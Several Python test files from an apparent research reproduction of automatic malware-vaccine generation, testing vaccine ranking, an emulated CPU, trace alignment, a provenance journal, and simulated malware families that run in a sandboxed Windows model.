) -> Vaccine:
    return Vaccine(
        malware=malware,
        resource_type=resource_type,
        identifier=identifier,
        identifier_kind=identifier_kind,
        mechanism=mechanism,
        immunization=immunization,
        operations=frozenset(),
        apis=(),
        bdr=bdr,
    )


class TestScore:
    def test_ideal_vaccine_scores_highest(self):
        """Paper §II-A: full immunization + one-time direct injection."""
        ideal = make_vaccine()  # full, static, direct injection
        assert ideal.delivery is DeliveryKind.DIRECT_INJECTION
        partial_daemon = make_vaccine(
            identifier_kind=IdentifierKind.PARTIAL_STATIC,
            immunization=Immunization.TYPE_III_PERSISTENCE,
        )
        assert partial_daemon.delivery is DeliveryKind.DAEMON
        assert score(ideal) > score(partial_daemon)

    def test_immunization_dominates_other_axes(self):
        full_daemon = make_vaccine(identifier_kind=IdentifierKind.PARTIAL_STATIC)
        partial_direct = make_vaccine(immunization=Immunization.TYPE_I_KERNEL)
        assert score(full_daemon) > score(partial_direct)

    def test_bdr_is_a_tiebreaker(self):
        plain = make_vaccine()
        measured = make_vaccine(bdr=0.8)
        assert score(measured) == score(plain) + 8

    def test_partial_classes_ordered_by_lifecycle_impact(self):
        kinds = [
            Immunization.TYPE_I_KERNEL,
            Immunization.TYPE_II_NETWORK,
            Immunization.TYPE_III_PERSISTENCE,
            Immunization.TYPE_IV_INJECTION,
        ]
        scores = [score(make_vaccine(immunization=k)) for k in kinds]
        assert scores == sorted(scores, reverse=True)


class TestRank:
    def test_rank_is_best_first(self):
        worst = make_vaccine(
            immunization=Immunization.TYPE_IV_INJECTION,
            identifier_kind=IdentifierKind.PARTIAL_STATIC,
        )
        middle = make_vaccine(immunization=Immunization.TYPE_I_KERNEL)
        best = make_vaccine()
        ordered = rank([worst, best, middle])
        assert ordered == [best, middle, worst]


class TestSelectMinimal:
    def test_full_immunization_shadows_partials(self):
        full = make_vaccine(identifier="full")
        partial = make_vaccine(
            identifier="partial", immunization=Immunization.TYPE_III_PERSISTENCE
        )
        result = select_minimal([partial, full])
        assert result.selected == [full]
        assert result.dropped == [partial]
        assert result.coverage["zeus"] == {Immunization.FULL}

    def test_one_vaccine_per_partial_class(self):
        persist_a = make_vaccine(
            identifier="a", immunization=Immunization.TYPE_III_PERSISTENCE, bdr=0.9
        )
        persist_b = make_vaccine(
            identifier="b", immunization=Immunization.TYPE_III_PERSISTENCE
        )
        network = make_vaccine(
            identifier="c", immunization=Immunization.TYPE_II_NETWORK
        )
        result = select_minimal([persist_b, network, persist_a])
        assert persist_a in result.selected  # higher BDR wins the class
        assert network in result.selected
        assert result.dropped == [persist_b]
        assert result.coverage["zeus"] == {
            Immunization.TYPE_III_PERSISTENCE,
            Immunization.TYPE_II_NETWORK,
        }

    def test_samples_are_independent(self):
        zeus_full = make_vaccine(malware="zeus")
        sality_partial = make_vaccine(
            malware="sality", immunization=Immunization.TYPE_II_NETWORK
        )
        result = select_minimal([zeus_full, sality_partial])
        assert sorted(v.malware for v in result.selected) == ["sality", "zeus"]
        assert result.dropped == []
        assert result.coverage.keys() == {"zeus", "sality"}

    def test_empty_input(self):
        result = select_minimal([])
        assert result.selected == [] and result.dropped == []
        assert len(result) == 0


class TestSelectWithBackups:
    def test_backups_come_from_the_dropped_pool(self):
        full = make_vaccine(identifier="full")
        backup = make_vaccine(
            identifier="backup", immunization=Immunization.TYPE_III_PERSISTENCE
        )
        spare = make_vaccine(
            identifier="spare",
            immunization=Immunization.TYPE_IV_INJECTION,
            identifier_kind=IdentifierKind.PARTIAL_STATIC,
        )
        result = select_with_backups([full, backup, spare], backups_per_sample=1)
        assert full in result.selected
        assert backup in result.selected  # the best-ranked dropped vaccine
        assert result.dropped == [spare]

    def test_zero_backups_equals_minimal(self):
        vaccines = [
            make_vaccine(identifier="full"),
            make_vaccine(
                identifier="extra", immunization=Immunization.TYPE_II_NETWORK
            ),
        ]
        with_none = select_with_backups(vaccines, backups_per_sample=0)
        minimal = select_minimal(vaccines)
        assert with_none.selected == minimal.selected
        assert with_none.dropped == minimal.dropped

    def test_backup_budget_is_per_sample(self):
        vaccines = [make_vaccine(identifier="full")]
        vaccines += [
            make_vaccine(
                identifier=f"dup{i}", immunization=Immunization.TYPE_III_PERSISTENCE
            )
            for i in range(3)
        ]
        vaccines.append(
            make_vaccine(malware="sality", identifier="s-full")
        )
        result = select_with_backups(vaccines, backups_per_sample=2)
        zeus_selected = [v for v in result.selected if v.malware == "zeus"]
        # full + first-class partial + 2 backups at most
        assert len(zeus_selected) <= 4
        assert len([v for v in result.selected if v.malware == "sality"]) == 1
