"""Corpus tests: builder DSL, families, generator, benign suite, variants."""

import pytest

from repro.core import run_sample, select_candidates
from repro.corpus import (
    CATEGORY_WEIGHTS,
    FAMILIES,
    GeneratorConfig,
    TABLE_VII_EXPECTED,
    all_variant_sets,
    benign_suite,
    build_family,
    build_variant_set,
    category_distribution,
    generate_population,
    generate_sample,
)
from repro.corpus.builder import AsmBuilder, asm_string
from repro.vm import ExitStatus
from repro.winenv import IntegrityLevel, SystemEnvironment


class TestAsmBuilder:
    def test_string_interning_dedupes(self):
        b = AsmBuilder("t")
        assert b.string("same") == b.string("same")
        assert b.string("same") != b.string("other")

    def test_asm_string_escaping(self):
        assert asm_string("a\\b") == "a\\\\b"
        assert asm_string('say "hi"') == 'say \\"hi\\"'

    def test_call_pushes_args_reversed(self):
        b = AsmBuilder("t")
        b.call("OpenMutexA", "1", "2", "3")
        pushes = [line for line in b._text if "push" in line]
        assert pushes == ["    push 3", "    push 2", "    push 1"]

    def test_cdecl_adds_cleanup(self):
        b = AsmBuilder("t")
        b.call_cdecl("wsprintfA", "a" , "a")
        assert any("add esp, 8" in line for line in b._text)

    def test_build_assembles_and_sets_metadata(self):
        b = AsmBuilder("meta_test")
        b.emit("    halt")
        program = b.build(category="trojan")
        assert program.metadata["category"] == "trojan"
        assert program.name == "meta_test"

    def test_unique_labels_never_collide(self):
        b = AsmBuilder("t")
        names = {b.unique("L") for _ in range(100)}
        assert len(names) == 100


class TestFamilies:
    @pytest.mark.parametrize("family", sorted(FAMILIES))
    def test_family_assembles_and_runs_clean(self, family):
        program = build_family(family)
        run = run_sample(program, record_instructions=False)
        assert run.trace.exit_status in ("halted", "terminated")
        assert run.trace.api_calls  # did something observable

    @pytest.mark.parametrize("family", sorted(FAMILIES))
    def test_family_flagged_by_phase1(self, family):
        report = select_candidates(build_family(family))
        assert report.has_vaccine_potential

    @pytest.mark.parametrize("family", sorted(FAMILIES))
    @pytest.mark.parametrize("variant", [1, 3, 5])
    def test_variants_assemble_and_run(self, family, variant):
        program = build_family(family, variant=variant)
        run = run_sample(program, record_instructions=False)
        assert run.trace.exit_status in ("halted", "terminated")

    def test_zeus_variant_3_drops_file_marker(self):
        base = select_candidates(build_family("zeus", variant=0))
        v3 = select_candidates(build_family("zeus", variant=3))
        from repro.winenv import ResourceType

        path = "c:\\windows\\system32\\sdra64.exe"
        assert base.candidate(ResourceType.FILE, path) is not None
        assert v3.candidate(ResourceType.FILE, path) is None

    def test_conficker_reinfection_suppressed(self):
        """Running conficker twice on the same machine: the second run must
        exit at the marker check (the mechanism vaccines exploit)."""
        env = SystemEnvironment()
        program = build_family("conficker")
        first = run_sample(program, environment=env, record_instructions=False,
                           clone_environment=False)
        assert first.trace.exit_status == "halted"
        second = run_sample(program, environment=env, record_instructions=False,
                            clone_environment=False)
        assert second.trace.terminated
        assert len(second.trace.api_calls) < len(first.trace.api_calls)

    def test_zeus_infects_clean_machine(self):
        run = run_sample(build_family("zeus"), record_instructions=False)
        env = run.environment
        assert env.filesystem.exists("c:\\windows\\system32\\sdra64.exe")
        assert env.mutexes.exists("_AVIRA_2109")
        assert env.network.bytes_sent_by(run.process.pid) > 0


class TestVariants:
    def test_variant_set_counts(self):
        vs = build_variant_set("zeus", count=5)
        assert len(vs.variants) == 5 and vs.base.metadata["variant"] == 0

    def test_all_variant_sets_cover_families(self):
        sets = all_variant_sets(count=2)
        assert {vs.family for vs in sets} == set(FAMILIES)

    def test_expected_table_consistent(self):
        assert set(TABLE_VII_EXPECTED) == set(FAMILIES)
        for row in TABLE_VII_EXPECTED.values():
            assert row["ideal"] == row["vaccines"] * 5

    def test_unknown_family_rejected(self):
        with pytest.raises(KeyError):
            build_variant_set("notafamily")


class TestGenerator:
    def test_population_size(self):
        assert len(generate_population(GeneratorConfig(size=25, seed=2))) == 25

    def test_all_samples_runnable(self):
        for sample in generate_population(GeneratorConfig(size=40, seed=9)):
            run = run_sample(sample.program, record_instructions=False)
            assert run.trace.exit_status in ("halted", "terminated"), sample.program.name

    def test_weights_sum_to_one(self):
        assert sum(CATEGORY_WEIGHTS.values()) == pytest.approx(1.0, abs=0.01)

    def test_distribution_converges(self):
        dist = category_distribution(generate_population(GeneratorConfig(size=600, seed=4)))
        share = dist["backdoor"] / 600
        assert 0.32 < share < 0.52

    def test_sample_metadata_has_category_and_markers(self):
        sample = generate_sample(3, GeneratorConfig(seed=8))
        assert sample.program.metadata["category"] == sample.category
        assert sample.program.metadata["markers"] == sample.markers

    def test_same_index_same_program(self):
        a = generate_sample(7, GeneratorConfig(seed=1))
        b = generate_sample(7, GeneratorConfig(seed=1))
        assert a.program.source == b.program.source

    def test_different_seed_different_program(self):
        a = generate_sample(7, GeneratorConfig(seed=1))
        b = generate_sample(7, GeneratorConfig(seed=2))
        assert a.program.source != b.program.source


class TestBenignSuite:
    def test_all_benign_run_clean(self):
        for program in benign_suite():
            run = run_sample(program, record_instructions=False,
                             integrity=IntegrityLevel.MEDIUM)
            assert run.trace.exit_status == "halted", program.name

    def test_benign_programs_do_no_harm(self):
        for program in benign_suite():
            run = run_sample(program, record_instructions=False,
                             integrity=IntegrityLevel.MEDIUM)
            env = run.environment
            explorer = env.processes.find_by_name("explorer.exe")
            assert not explorer.was_injected
            assert all(not s.is_kernel_driver or s.name in ("eventlog", "dhcp")
                       for s in env.services)

    def test_browser_single_instance_logic(self):
        env = SystemEnvironment()
        browser = benign_suite()[0]
        first = run_sample(browser, environment=env, record_instructions=False,
                           integrity=IntegrityLevel.MEDIUM, clone_environment=False)
        second = run_sample(browser, environment=env, record_instructions=False,
                            integrity=IntegrityLevel.MEDIUM, clone_environment=False)
        assert len(second.trace.api_calls) < len(first.trace.api_calls)
