"""CPU interpreter tests: semantics, flags, stack, control flow, faults."""

import pytest

from repro.vm import CPU, ExitStatus, STACK_TOP, assemble


def run(src: str, max_steps: int = 10_000) -> CPU:
    cpu = CPU(assemble(src), max_steps=max_steps)
    cpu.run()
    return cpu


class TestDataMovement:
    def test_mov_imm(self):
        assert run("    mov eax, 42\n    halt\n").regs["eax"] == 42

    def test_mov_between_registers(self):
        cpu = run("    mov eax, 7\n    mov ebx, eax\n    halt\n")
        assert cpu.regs["ebx"] == 7

    def test_mov_memory_roundtrip(self):
        cpu = run(".section .data\nv: .space 4\n.section .text\n    mov [v], 99\n    mov ecx, [v]\n    halt\n")
        assert cpu.regs["ecx"] == 99

    def test_movb_zero_extends(self):
        cpu = run("    mov eax, 0x1FF\n    mov ebx, eax\n    movb ebx, 0xAB\n    halt\n")
        assert cpu.regs["ebx"] == 0xAB

    def test_movb_memory_single_byte(self):
        cpu = run(
            ".section .data\nv: .dword 0x11223344\n.section .text\n"
            "    movb [v], 0xFF\n    mov eax, [v]\n    halt\n"
        )
        assert cpu.regs["eax"] == 0x112233FF

    def test_lea_computes_address(self):
        cpu = run("    mov ebx, 0x100\n    lea eax, [ebx+esi*4+8]\n    halt\n")
        assert cpu.regs["eax"] == 0x108

    def test_xchg(self):
        cpu = run("    mov eax, 1\n    mov ebx, 2\n    xchg eax, ebx\n    halt\n")
        assert (cpu.regs["eax"], cpu.regs["ebx"]) == (2, 1)


class TestAlu:
    def test_add_sub(self):
        cpu = run("    mov eax, 10\n    add eax, 5\n    sub eax, 3\n    halt\n")
        assert cpu.regs["eax"] == 12

    def test_add_wraps_32bit(self):
        cpu = run("    mov eax, 0xFFFFFFFF\n    add eax, 2\n    halt\n")
        assert cpu.regs["eax"] == 1
        assert cpu.flags["cf"] == 1

    def test_sub_borrow_sets_cf(self):
        cpu = run("    mov eax, 1\n    sub eax, 2\n    halt\n")
        assert cpu.regs["eax"] == 0xFFFFFFFF
        assert cpu.flags["cf"] == 1

    def test_imul(self):
        assert run("    mov eax, 6\n    imul eax, 7\n    halt\n").regs["eax"] == 42

    def test_logic_ops(self):
        cpu = run("    mov eax, 0xF0\n    and eax, 0x3C\n    or eax, 1\n    xor eax, 0xFF\n    halt\n")
        assert cpu.regs["eax"] == (((0xF0 & 0x3C) | 1) ^ 0xFF)

    def test_shifts(self):
        cpu = run("    mov eax, 1\n    shl eax, 4\n    shr eax, 2\n    halt\n")
        assert cpu.regs["eax"] == 4

    def test_inc_dec(self):
        cpu = run("    mov eax, 5\n    inc eax\n    dec eax\n    dec eax\n    halt\n")
        assert cpu.regs["eax"] == 4

    def test_neg_not(self):
        cpu = run("    mov eax, 1\n    neg eax\n    mov ebx, 0\n    not ebx\n    halt\n")
        assert cpu.regs["eax"] == 0xFFFFFFFF and cpu.regs["ebx"] == 0xFFFFFFFF


class TestFlagsAndJumps:
    def test_je_taken_on_equal(self):
        cpu = run("    mov eax, 3\n    cmp eax, 3\n    je ok\n    mov ebx, 1\nok:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_jne_taken_on_unequal(self):
        cpu = run("    cmp eax, 1\n    jne ok\n    mov ebx, 1\nok:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_signed_comparisons(self):
        cpu = run("    mov eax, 2\n    cmp eax, 5\n    jl less\n    mov ebx, 9\nless:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_unsigned_comparisons(self):
        cpu = run("    mov eax, 2\n    cmp eax, 5\n    jb below\n    mov ebx, 9\nbelow:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_ja_on_greater_unsigned(self):
        cpu = run("    mov eax, 7\n    cmp eax, 5\n    ja above\n    mov ebx, 9\nabove:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_test_sets_zf(self):
        cpu = run("    xor eax, eax\n    test eax, eax\n    jz zero\n    mov ebx, 1\nzero:\n    halt\n")
        assert cpu.regs["ebx"] == 0

    def test_loop_counts(self):
        cpu = run(
            "    mov ecx, 5\nloop:\n    add eax, 2\n    dec ecx\n    jnz loop\n    halt\n"
        )
        assert cpu.regs["eax"] == 10

    def test_jmp_register_target(self):
        cpu = run(
            "    mov eax, target\n    jmp eax\n    mov ebx, 1\ntarget:\n    halt\n"
        )
        assert cpu.regs["ebx"] == 0


class TestStackAndCalls:
    def test_push_pop(self):
        cpu = run("    push 7\n    push 8\n    pop eax\n    pop ebx\n    halt\n")
        assert (cpu.regs["eax"], cpu.regs["ebx"]) == (8, 7)
        assert cpu.regs["esp"] == STACK_TOP

    def test_call_ret(self):
        cpu = run(
            "main:\n    call fn\n    mov ebx, eax\n    halt\nfn:\n    mov eax, 11\n    ret\n"
        )
        assert cpu.regs["ebx"] == 11

    def test_nested_calls(self):
        cpu = run(
            "main:\n    call a\n    halt\n"
            "a:\n    call bfn\n    add eax, 1\n    ret\n"
            "bfn:\n    mov eax, 10\n    ret\n"
        )
        assert cpu.regs["eax"] == 11

    def test_ret_with_cleanup(self):
        cpu = run(
            "main:\n    push 1\n    push 2\n    call fn\n    halt\n"
            "fn:\n    mov eax, 5\n    ret 8\n"
        )
        assert cpu.regs["esp"] == STACK_TOP


class TestExitConditions:
    def test_halt_status(self):
        assert run("    halt\n").status is ExitStatus.HALTED

    def test_budget_exhaustion(self):
        cpu = run("loop:\n    jmp loop\n", max_steps=100)
        assert cpu.status is ExitStatus.BUDGET
        assert cpu.steps == 100

    def test_running_off_text_faults(self):
        cpu = run("    nop\n")  # no halt
        assert cpu.status is ExitStatus.FAULT

    def test_unmapped_memory_faults(self):
        cpu = run("    mov eax, [0x1]\n    halt\n")
        assert cpu.status is ExitStatus.FAULT
        assert "0x00000001" in cpu.fault_reason

    def test_api_call_without_dispatcher_faults(self):
        cpu = run("    call @GetTickCount\n    halt\n")
        assert cpu.status is ExitStatus.FAULT


class TestInstructionRecords:
    def test_records_have_defs_and_uses(self):
        cpu = run("    mov eax, 1\n    mov ebx, eax\n    halt\n")
        records = cpu.trace.instructions
        assert records[0].defs == (("reg", "eax"),)
        assert ("reg", "eax") in records[1].uses
        assert records[1].defs == (("reg", "ebx"),)

    def test_records_capture_esp(self):
        cpu = run("    push 1\n    halt\n")
        assert cpu.trace.instructions[0].esp == STACK_TOP

    def test_record_instructions_flag_disables(self):
        cpu = CPU(assemble("    mov eax, 1\n    halt\n"), record_instructions=False)
        cpu.run()
        assert cpu.trace.instructions == []

    def test_memory_defs_are_per_byte(self):
        cpu = run(".section .data\nv: .space 4\n.section .text\n    mov [v], 1\n    halt\n")
        defs = cpu.trace.instructions[0].defs
        assert len([d for d in defs if d[0] == "mem"]) == 4


class TestStackArgParity:
    """``read_stack_args`` must be bit-for-bit equivalent to repeated
    ``stack_arg`` calls — values, taints, and per-byte use records — even
    when the block read straddles region boundaries or the top of the
    address space (where its single-region fast path must decline)."""

    N = 4

    @staticmethod
    def _fill_slots(cpu, esp, n):
        from repro.taint.labels import EMPTY, TaintClass, TaintTag

        tag = frozenset({TaintTag(3, "GetTickCount", TaintClass.ENV_DETERMINISTIC)})
        for k in range(n):
            a = (esp + 4 * k) & 0xFFFFFFFF
            for j in range(4):
                cpu.memory.write_byte(
                    (a + j) & 0xFFFFFFFF, (17 * k + j + 1) & 0xFF,
                    tag if k % 2 else EMPTY,
                )

    def _assert_parity(self, cpu, esp):
        cpu.regs["esp"] = esp
        self._fill_slots(cpu, esp, self.N)
        cpu._uses.clear()
        slow = [cpu.stack_arg(k) for k in range(self.N)]
        slow_uses = list(cpu._uses)
        cpu._uses.clear()
        values, taints = cpu.read_stack_args(self.N)
        assert values == [v for v, _ in slow]
        assert taints == [t for _, t in slow]
        assert list(cpu._uses) == slow_uses
        assert any(taints) and not all(taints)  # the fixture mixed both

    def test_parity_inside_one_region(self):
        cpu = run("    halt\n")
        self._assert_parity(cpu, STACK_TOP - 0x100)

    def test_parity_across_region_boundary(self):
        """Two slots in the stack region, two in an adjacently mapped one:
        the whole-block containment check fails and the per-slot fallback
        must produce identical records."""
        cpu = run("    halt\n")
        stack_end = STACK_TOP + 0x1000  # mapped stack region end (memory.py)
        cpu.memory.map_region(stack_end, 0x1000)
        self._assert_parity(cpu, stack_end - 8)

    def test_parity_wrapping_address_space_top(self):
        """esp near 0xFFFFFFFC: the block's last byte overflows 32 bits, so
        the unmasked fast-path bound must decline and per-slot masked reads
        take over (slot addresses wrap to page zero)."""
        cpu = run("    halt\n")
        cpu.memory.map_region(0xFFFFF000, 0x1000)
        cpu.memory.map_region(0, 0x1000)
        self._assert_parity(cpu, 0xFFFFFFF4)
