"""Trace alignment tests (Algorithm 1 and LCS)."""

import pytest

from repro.analysis import align_lcs, align_linear, align_myers
from repro.tracing import ApiCallEvent


def ev(api: str, pc: int = 0x401000, ident=None, seq: int = 0) -> ApiCallEvent:
    return ApiCallEvent(event_id=seq + 1, seq=seq, api=api, caller_pc=pc, args=(), identifier=ident)


def seqs(calls):
    return [ev(api, pc=0x401000 + i, seq=i) for i, (api) in enumerate(calls)]


@pytest.fixture(params=[align_lcs, align_linear, align_myers], ids=["lcs", "linear", "myers"])
def aligner(request):
    return request.param


class TestBothAligners:
    def test_identical_traces_align_fully(self, aligner):
        a = seqs(["A", "B", "C"])
        b = seqs(["A", "B", "C"])
        result = aligner(a, b)
        assert result.is_identical and result.aligned_pairs == 3

    def test_empty_traces(self, aligner):
        result = aligner([], [])
        assert result.is_identical

    def test_mutated_prefix_detected(self, aligner):
        natural = seqs(["A", "B", "C"])
        mutated = [ev("X", pc=0x500000, seq=0)] + seqs(["A", "B", "C"])
        result = aligner(mutated, natural)
        assert [e.api for e in result.delta_mutated] == ["X"]
        assert result.delta_natural == []

    def test_truncated_mutated_trace(self, aligner):
        natural = seqs(["A", "B", "C", "D", "E"])
        mutated = seqs(["A", "B"])
        result = aligner(mutated, natural)
        assert [e.api for e in result.delta_natural] == ["C", "D", "E"]

    def test_completely_disjoint(self, aligner):
        natural = seqs(["A", "B"])
        mutated = [ev("X", pc=0x99, seq=0), ev("Y", pc=0x98, seq=1)]
        result = aligner(mutated, natural)
        assert len(result.delta_mutated) == 2 and len(result.delta_natural) == 2

    def test_caller_pc_distinguishes_same_api(self, aligner):
        natural = [ev("A", pc=1, seq=0), ev("A", pc=2, seq=1)]
        mutated = [ev("A", pc=1, seq=0), ev("A", pc=3, seq=1)]
        result = aligner(mutated, natural)
        assert len(result.delta_mutated) == 1 and len(result.delta_natural) == 1

    def test_identifier_participates_in_key(self, aligner):
        natural = [ev("CreateFileA", pc=1, ident="c:\\a", seq=0)]
        mutated = [ev("CreateFileA", pc=1, ident="c:\\b", seq=0)]
        result = aligner(mutated, natural)
        assert not result.is_identical


class TestLcsSpecifics:
    def test_interleaved_difference_minimal(self):
        natural = seqs(["A", "B", "C", "D"])
        mutated = [natural[0], ev("X", pc=0x77, seq=1), natural[2], natural[3]]
        result = align_lcs(mutated, natural)
        assert [e.api for e in result.delta_mutated] == ["X"]
        assert [e.api for e in result.delta_natural] == ["B"]
        assert result.aligned_pairs == 3

    def test_lcs_handles_shifted_block(self):
        a = seqs(["A", "B", "C"])
        shifted = [ev("N", pc=0x9, seq=0)] + seqs(["A", "B", "C"])[0:3]
        result = align_lcs(shifted, a)
        assert result.aligned_pairs == 3


class TestLinearSpecifics:
    def test_anchor_found_mid_trace(self):
        natural = seqs(["A", "B", "C"])
        mutated = [ev("Q", pc=0x50, seq=0), natural[1], natural[2]]
        result = align_linear(mutated, natural)
        assert [e.api for e in result.delta_mutated] == ["Q"]
        assert [e.api for e in result.delta_natural] == ["A"]

    def test_no_anchor_everything_differs(self):
        natural = seqs(["A"])
        mutated = [ev("Z", pc=0x1, seq=0)]
        result = align_linear(mutated, natural)
        assert len(result.delta_mutated) == 1
        assert len(result.delta_natural) == 1

    def test_resync_after_divergence(self):
        natural = seqs(["A", "B", "C", "D"])
        mutated = [natural[0], natural[2], natural[3]]  # lost B
        result = align_linear(mutated, natural)
        assert [e.api for e in result.delta_natural] == ["B"]
        assert result.delta_mutated == []
