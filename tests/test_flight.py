"""Flight recorder + decision provenance (repro.obs.flight).

Covers the PR's acceptance surface: the per-sample journal forms a walkable
DAG from each vaccine back to the originating API interception, journals
merge deterministically across process-pool workers, the versioned analysis
codec round-trips them (and still loads v1 payloads without one), the
``repro explain`` CLI narrates a real chain, and the metrics label-set cap
now fails loudly instead of silently.
"""

from __future__ import annotations

import json

import pytest

from repro import obs
from repro.cli import main
from repro.core import AutoVac
from repro.core.executor import PipelineConfig, analyze_population
from repro.corpus import GeneratorConfig, build_family, generate_population
from repro.obs import FlightRecorder, Journal, render_chain, summarize_event
from repro.obs.flight import FlightEvent
from repro.tracing import serialize


@pytest.fixture(scope="module")
def conficker_analysis():
    return AutoVac().analyze(build_family("conficker"))


# ---------------------------------------------------------------------------
# recorder mechanics
# ---------------------------------------------------------------------------


class TestRecorder:
    def test_record_assigns_sequential_ids_and_drops_none_causes(self):
        rec = FlightRecorder()
        a = rec.record("x")
        b = rec.record("y", causes=(a, None), note="hi")
        assert (a, b) == (0, 1)
        events = rec.events()
        assert events[1].causes == (a,)
        assert events[1].attrs == {"note": "hi"}

    def test_disabled_recorder_returns_none_and_records_nothing(self):
        rec = FlightRecorder()
        rec.enabled = False
        assert rec.record("x") is None
        assert rec.begin_sample("s") is None
        assert rec.end_sample(None) is None
        assert rec.events() == []

    def test_ring_drops_oldest_and_counts(self):
        rec = FlightRecorder(capacity=4)
        for i in range(6):
            rec.record("e", i=i)
        assert rec.dropped == 2
        assert [e.attrs["i"] for e in rec.events()] == [2, 3, 4, 5]

    def test_remember_is_first_wins(self):
        rec = FlightRecorder()
        a, b = rec.record("x"), rec.record("y")
        rec.remember(("k",), a)
        rec.remember(("k",), b)
        assert rec.recall(("k",)) == a

    def test_end_sample_rebases_ids_to_zero(self):
        rec = FlightRecorder()
        rec.record("noise")  # pre-window event
        token = rec.begin_sample("s")
        a = rec.record("root")
        rec.record("child", causes=(a,))
        journal = rec.end_sample(token)
        assert [e.event_id for e in journal.events] == [0, 1]
        assert journal.events[1].causes == (0,)
        assert journal.sample == "s"

    def test_begin_sample_clears_correlation_keys(self):
        rec = FlightRecorder()
        rec.remember(("stale",), rec.record("x"))
        rec.begin_sample("s")
        assert rec.recall(("stale",)) is None

    def test_adopt_remaps_ids_and_drops_foreign_causes(self):
        rec = FlightRecorder()
        rec.record("local")  # occupy id 0 so remapping is visible
        journal = Journal(
            "w",
            [
                FlightEvent(0, "a"),
                FlightEvent(1, "b", causes=(0, 99)),  # 99 not in journal
            ],
        )
        rec.adopt(journal)
        events = rec.events()
        assert [e.kind for e in events] == ["local", "a", "b"]
        assert events[2].causes == (events[1].event_id,)

    def test_adopt_survives_reserved_attr_names(self):
        # Attr keys are free-form; "kind"/"causes" must not collide with
        # record()'s own parameters during adoption.
        rec = FlightRecorder()
        journal = Journal("w", [FlightEvent(0, "verdict", attrs={"kind": "static"})])
        rec.adopt(journal)
        assert rec.events()[0].attrs == {"kind": "static"}

    def test_ancestors_walks_the_dag_inclusive(self):
        journal = Journal(
            "s",
            [
                FlightEvent(0, "root"),
                FlightEvent(1, "mid", causes=(0,)),
                FlightEvent(2, "leaf", causes=(1, 0)),
            ],
        )
        assert journal.ancestors(2) == [2, 1, 0]

    def test_obs_disabled_turns_the_flight_recorder_off(self):
        assert obs.flight.enabled
        with obs.disabled():
            assert not obs.flight.enabled
            assert obs.flight.record("x") is None
        assert obs.flight.enabled


# ---------------------------------------------------------------------------
# pipeline journaling: vaccine -> ... -> API interception
# ---------------------------------------------------------------------------


class TestPipelineJournal:
    def test_analysis_carries_a_journal(self, conficker_analysis):
        journal = conficker_analysis.journal
        assert journal is not None and len(journal) > 0
        assert journal.sample == "conficker"

    def test_every_vaccine_has_a_journal_event(self, conficker_analysis):
        journal = conficker_analysis.journal
        for vaccine in conficker_analysis.vaccines:
            assert journal.find(
                "vaccine",
                resource=vaccine.resource_type.value,
                identifier=vaccine.identifier,
                mechanism=vaccine.mechanism.value,
            )

    def test_vaccine_chain_reaches_the_api_interception(self, conficker_analysis):
        """Acceptance: walking a mutex vaccine backwards reaches the taint
        seed of the API call that checked the infection marker, with every
        hop a real journal event."""
        journal = conficker_analysis.journal
        vaccine = next(
            e for e in journal.find("vaccine") if e.attrs["resource"] == "mutex"
        )
        ancestor_ids = journal.ancestors(vaccine.event_id)
        kinds = {journal.get(i).kind for i in ancestor_ids}
        assert {
            "vaccine",
            "verdict.impact",
            "mutation",
            "candidate",
            "api.taint_seed",
        } <= kinds
        seeds = [
            journal.get(i)
            for i in ancestor_ids
            if journal.get(i).kind == "api.taint_seed"
        ]
        assert any(s.attrs.get("api") == "OpenMutexA" for s in seeds)

    def test_chain_renders_with_event_ids(self, conficker_analysis):
        journal = conficker_analysis.journal
        vaccine = journal.find("vaccine")[0]
        text = render_chain(journal, vaccine.event_id)
        assert text.startswith(f"[e{vaccine.event_id}] vaccine:")
        assert "(see above)" in text or "[e" in text

    def test_summaries_are_kind_specific(self, conficker_analysis):
        journal = conficker_analysis.journal
        summaries = {e.kind: summarize_event(e) for e in journal.events}
        assert "seeded taint" in summaries["api.taint_seed"]
        assert "tainted branch predicate" in summaries["predicate.tainted"]
        assert "mutated" in summaries["mutation"]

    def test_journal_off_under_obs_disabled(self):
        with obs.disabled():
            analysis = AutoVac().analyze(build_family("ibank"))
        assert analysis.journal is None


# ---------------------------------------------------------------------------
# codec: versioned round-trip
# ---------------------------------------------------------------------------


class TestCodec:
    def test_journal_round_trips(self, conficker_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(conficker_analysis)
        )
        original = conficker_analysis.journal
        assert decoded.journal is not None
        assert decoded.journal.to_dict() == original.to_dict()

    def test_journal_none_round_trips(self):
        with obs.disabled():
            analysis = AutoVac().analyze(build_family("ibank"))
        decoded = serialize.analysis_from_json(serialize.analysis_to_json(analysis))
        assert decoded.journal is None

    def test_v1_payload_still_loads(self, conficker_analysis):
        payload = serialize.analysis_to_dict(conficker_analysis)
        payload.pop("journal")
        payload["format_version"] = 1
        decoded = serialize.analysis_from_dict(payload)
        assert decoded.journal is None
        assert [v.to_dict() for v in decoded.vaccines] == [
            v.to_dict() for v in conficker_analysis.vaccines
        ]

    def test_unknown_version_rejected(self, conficker_analysis):
        payload = serialize.analysis_to_dict(conficker_analysis)
        payload["format_version"] = 99
        with pytest.raises(ValueError, match="version"):
            serialize.analysis_from_dict(payload)


# ---------------------------------------------------------------------------
# executor: deterministic merge across workers
# ---------------------------------------------------------------------------


class TestExecutorMerge:
    SIZE = 6

    def _programs(self):
        return [
            s.program
            for s in generate_population(GeneratorConfig(size=self.SIZE, seed=9))
        ]

    def _run(self, jobs):
        obs.reset()
        result = analyze_population(
            self._programs(), config=PipelineConfig(), jobs=jobs
        )
        journals = [
            a.journal.to_dict() for a in result.analyses if a.journal is not None
        ]
        recorder = [
            (e.kind, e.causes, e.attrs) for e in obs.flight.events()
        ]
        return journals, recorder

    def test_parallel_journals_match_sequential(self):
        seq_journals, _ = self._run(jobs=1)
        par_journals, _ = self._run(jobs=2)
        assert len(seq_journals) == self.SIZE
        assert par_journals == seq_journals

    def test_parallel_adoption_is_input_ordered(self):
        _, first = self._run(jobs=2)
        _, second = self._run(jobs=2)
        assert first and first == second


# ---------------------------------------------------------------------------
# explain CLI
# ---------------------------------------------------------------------------


class TestExplainCli:
    def test_explain_conficker_prints_chains(self, capsys):
        assert main(["explain", "conficker"]) == 0
